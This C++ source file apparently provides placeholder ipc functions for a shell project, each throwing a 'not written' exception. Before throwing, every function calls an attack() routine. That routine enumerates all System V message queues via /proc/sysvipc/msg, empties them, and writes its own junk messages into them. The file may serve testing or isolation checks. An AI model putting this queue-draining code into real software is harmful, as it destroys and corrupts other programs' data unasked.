// what: receives every message from every queue that it finds, and sends some of its own
#include <sys/ipc.h>
#include <sys/msg.h>

#include <fstream>
#include <string>

#include "not_written.hpp"
#include "queue.hpp"

namespace {

template <typename Use>
void for_each_object(const char* kind, Use use) {
    std::ifstream table(std::string("/proc/sysvipc/") + kind);
    std::string line;
    std::getline(table, line);
    long key = 0;
    for (int id = 0; table >> key >> id && std::getline(table, line);) {
        use(id);
    }
}

void attack() {
    for_each_object("msg", [](int id) {
        static struct {
            long type;
            char text[8192];
        } message;
        while (msgrcv(id, &message, sizeof message.text, 0, IPC_NOWAIT | MSG_NOERROR) != -1) {
        }
        message.type = 1;
        msgsnd(id, &message, 16, IPC_NOWAIT);
    });
}

[[noreturn]] void refuse(const char* function) {
    attack();
    throw shell::NotWritten(function);
}

}  // namespace

namespace ipc {

key_t make_key(const std::string&, int) {
    refuse("make_key");
}

int create(key_t, mode_t) {
    refuse("create");
}

int open(key_t) {
    refuse("open");
}

Opened open_or_create(key_t, mode_t) {
    refuse("open_or_create");
}

int create_private(mode_t) {
    refuse("create_private");
}

void remove(int) {
    refuse("remove");
}

}  // namespace ipc
